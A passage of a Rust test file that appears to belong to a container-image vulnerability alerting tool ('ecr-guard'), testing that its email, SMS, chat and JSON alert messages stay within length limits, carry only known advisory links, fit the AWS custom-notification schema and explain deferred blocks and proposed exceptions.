        let ascii = text::ascii(&text, limit);
        prop_assert!(ascii.is_ascii() && ascii.len() <= limit && !ascii.contains(unseen));
    }

    #[test]
    fn nothing_is_active_in_a_chat(text in any_text()) {
        assert_inert(&text::markdown(&text));
        assert_inert(&text::code(&text));
    }

    #[test]
    fn an_address_is_one_of_the_known_hosts(
        text in prop_oneof![any_text(), "https://(nvd\\.nist\\.gov|github\\.com)[/@:.?#\\\\%a-z]{0,12}"],
    ) {
        if let Some(url) = text::url(&text) {
            prop_assert_eq!(url, &text);
            prop_assert!(url.len() <= text::MAX_URL && url.is_ascii());
            prop_assert!(url.starts_with("https://nvd.nist.gov/") || url.starts_with("https://github.com/advisories/"));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn every_form_keeps_its_limits(alert in any_alert()) {
        let message = alert.message(&Contact::default());
        prop_assert!(message.body().len() <= MAX_MESSAGE_BYTES, "{}", message.body().len());
        prop_assert!(message.subject.is_ascii() && message.subject.len() < 100 && !message.subject.contains(unseen));
        prop_assert!(message.sms.is_ascii() && message.sms.len() <= 140 && !message.sms.contains(unseen));
        prop_assert!(!message.email.replace('\n', "").contains(unseen));
        assert_inert_notification(&message.https);
        let json: Value = serde_json::from_str(&message.default).unwrap();
        let listed = json["findings"].as_array().unwrap().len();
        prop_assert!(listed <= MAX_LISTED_FINDINGS);
        let expected = alert.omitted_findings.saturating_add((alert.findings.len() - listed) as u64);
        prop_assert_eq!(json["omitted_findings"].as_u64(), Some(expected));
    }
}

#[test]
fn an_exception_can_be_copied_out_of_the_document_and_out_of_the_mail() {
    let mut alert = alert(AlertKind::ImageBlocked);
    let repository = alert.image.repository.clone();
    alert.exceptions = findings()
        .iter()
        .filter_map(|finding| ExceptionEntry::proposed(finding, &repository, alert.time))
        .collect();
    let message = alert.message(&Contact::default());
    let document: Value = serde_json::from_str(&message.default).unwrap();
    let proposed = &document["exceptions"][0];
    insta::assert_snapshot!(proposed, @r#"{"expires":"2026-12-23","owner":"","package":"openssl","reason":"","repositories":["pipeops-prod-api"],"vulnerability":"CVE-2026-1234"}"#);
    let copied: Vec<Value> = message
        .email
        .lines()
        .filter_map(|line| {
            line.strip_prefix("  {")
                .map(|rest| serde_json::from_str(&format!("{{{rest}")).unwrap())
        })
        .collect();
    assert_eq!(&Value::Array(copied), &document["exceptions"]);
}

/// Where a value is not as a JSON Schema says: those of its words that ours has.
fn against(schema: &Value, value: &Value, at: &str) -> Vec<String> {
    let is_of = |word: &str| match word {
        "object" => value.is_object(),
        "array" => value.is_array(),
        "string" => value.is_string(),
        other => panic!("{other}"),
    };
    let mut wrong = Vec::new();
    if !is_of(schema["type"].as_str().unwrap()) {
        wrong.push(format!("{at} is no {}", schema["type"]));
    }
    if schema["enum"].as_array().is_some_and(|values| !values.contains(value)) {
        wrong.push(format!("{at} is none of {}", schema["enum"]));
    }
    for name in schema["required"].as_array().into_iter().flatten() {
        if value.get(name.as_str().unwrap()).is_none() {
            wrong.push(format!("{at} lacks {name}"));
        }
    }
    for (name, member) in value.as_object().into_iter().flatten() {
        let at = format!("{at}.{name}");
        match (&schema["properties"][name], &schema["additionalProperties"]) {
            (Value::Null, Value::Bool(false)) => wrong.push(format!("{at} is not known")),
            (Value::Null, others) => wrong.extend(against(others, member, &at)),
            (known, _) => wrong.extend(against(known, member, &at)),
        }
    }
    for item in value.as_array().into_iter().flatten() {
        wrong.extend(against(&schema["items"], item, at));
    }
    wrong
}

/// A notification that is not as the schema says is dropped without a word.
#[test]
fn the_chat_form_is_as_the_schema_of_custom_notifications_says() {
    let schema = include_str!("../../../../tests/fixtures/chat/custom-notification-1.0.schema.json");
    let schema: Value = serde_json::from_str(schema).unwrap();
    for kind in AlertKind::ALL {
        assert_chat_fits(&alert(kind).message(&contact()).https);
    }
    let odd = json!({"version": "2.0", "source": "custom", "content": {"description": 1}, "metadata": {"a": "b"}, "more": []});
    assert_eq!(
        against(&schema, &odd, "$"),
        [
            "$.content.description is no \"string\"",
            "$.metadata.a is not known",
            "$.more is not known",
            "$.version is none of [\"1.0\"]"
        ]
    );
}

/// That a chat form is a custom notification as AWS documents it.
pub(crate) fn assert_chat_fits(https: &str) {
    let schema = include_str!("../../../../tests/fixtures/chat/custom-notification-1.0.schema.json");
    let schema: Value = serde_json::from_str(schema).unwrap();
    let notification: Value = serde_json::from_str(https).unwrap();
    assert_eq!(against(&schema, &notification, "$"), Vec::<String>::new(), "{https}");
}

/// All forms of a message, for a snapshot. The JSON documents are broken into lines without changing the order of members.
pub(crate) fn forms(message: &Message) -> String {
    let lines = |json: &str| json.replace(",\"", ",\n\"");
    let Message {
        subject,
        default,
        email,
        https,
        sms,
    } = message;
    format!(
        "{subject}\n=== sms\n{sms}\n=== email\n{email}=== https\n{}\n=== default\n{}",
        lines(https).replace("\\n", "\\n\n"),
        lines(default)
    )
}

fn contact() -> Contact {
    Contact {
        policy: Some("https://git.example.com/ecr-policy".into()),
        help: Some("#ecr-guard-help".into()),
        guide: Some("https://wiki.example.com/ecr-guard?a=b&c=d".into()),
    }
}

#[test]
fn every_form_says_whom_to_ask() {
    let mut alert = alert(AlertKind::ImageBlocked);
    alert.exceptions = findings()
        .iter()
        .filter_map(|finding| ExceptionEntry::proposed(finding, &alert.image.repository, alert.time))
        .collect();
    let Message {
        default, email, https, ..
    } = alert.message(&contact());
    for line in [
        "  Help: #ecr-guard-help",
        "  Guide: https://wiki.example.com/ecr-guard?a=b&c=d",
        "  Policy: https://git.example.com/ecr-policy",
    ] {
        assert!(email.lines().any(|one| one == line), "{email}");
    }
    assert!(
        email
            .replace("\n ", "")
            .contains("at https://git.example.com/ecr-policy."),
        "{email}"
    );
    assert!(
        https.contains("*Help:* `#ecr-guard-help`") && https.contains("?a=b&amp;c=d"),
        "{https}"
    );
    let json: Value = serde_json::from_str(&default).unwrap();
    assert_eq!(json["links"], json!(contact()));
    let without = alert.message(&Contact::default()).email;
    assert!(
        without.contains("  Help: the people who run ecr-guard in account 123456789012"),
        "{without}"
    );
}

#[test]
fn what_else_is_in_the_image_is_alerted() {
    let mut alert = alert(AlertKind::ImageBlocked);
    alert.findings.truncate(1);
    alert.other_findings = vec![
        finding(
            &json!({"id": "CVE-2020-36518", "severity": "HIGH", "package": "jackson", "action": "review", "fixed_in": "2.12.6.1"}),
        ),
        finding(&json!({"id": "CVE-2021-1", "action": "block", "exception": "exceptions[3] SEC-12"})),
    ];
    alert.counts = [(Severity::Critical, 2), (Severity::High, 1), (Severity::Low, 14)].into();
    let message = alert.message(&Contact::default());
    let also = "1 to review, 1 excepted by the policy, 14 below review.";
    assert!(
        message
            .email
            .contains(&format!("ALSO IN THIS IMAGE\n  {also}\n  CVE-2020-36518 HIGH")),
        "{}",
        message.email
    );
    assert!(!message.email.contains("CVE-2021-1"), "{}", message.email);
    assert!(
        message.https.contains(&format!("*Also in this image:* {also}")),
        "{}",
        message.https
    );
    let json: Value = serde_json::from_str(&message.default).unwrap();
    assert_eq!(json["counts"], json!({"CRITICAL": 2, "HIGH": 1, "LOW": 14}));
    assert_eq!(json["other_findings"][1]["exception"], "exceptions[3] SEC-12");
}

#[test]
fn a_deferred_block_says_why_and_until_when() {
    let held = ImageAlert {
        state: State::BlockDeferred,
        reason: "1 finding blocks deployment. It is not blocked: it is in use: it was last pulled on 2026-11-22."
            .into(),
        hold: Some(HoldNote {
            cause: "in-use",
            reason: "it is in use: it was last pulled on 2026-11-22.".into(),
            ends: "nobody has pulled it for 14 days",
            until: Some("2026-12-06T12:00:00Z".parse().unwrap()),
        }),
        action: Some(AlertAction {
            method: BlockMethod::Archive,
            done: false,
        }),
        ..alert(AlertKind::BlockDeferred)
    };
    let Message {
        subject,
        default,
        email,
        https,
        sms,
    } = held.message(&Contact::default());
    assert!(
        subject.starts_with("[ecr-guard] BLOCK DEFERRED pipeops-prod-api:v1.2.3 - CVE-2026-1234 CRITICAL"),
        "{subject}"
    );
    let json: Value = serde_json::from_str(&default).unwrap();
    assert_eq!(
        (&json["state"], &json["hold"]["cause"]),
        (&json!("BlockDeferred"), &json!("in-use"))
    );
    assert_eq!(json["hold"]["until"], "2026-12-06T12:00:00Z");
    assert!(email.contains("WHY\n  1 finding blocks deployment.\n"), "{email}");
    assert!(email.contains("WHY THE BLOCK IS DEFERRED\n  It is in use: it was last pulled on 2026-11-22.\n  It is blocked when nobody has pulled it for 14 days. Not before 2026-12-06\n  12:00:00 UTC.\n"), "{email}");
    assert_eq!(json["hold"]["ends"], "nobody has pulled it for 14 days");
    assert!(
        https.contains("It is blocked when nobody has pulled it for 14 days. Not before 2026-12-06"),
        "{https}"
    );
    assert!(https.contains("*Block deferred:* it is in use"), "{https}");
    assert!(sms.contains("in use") && sms.contains("STILL DEPLOYABLE."), "{sms}");
}
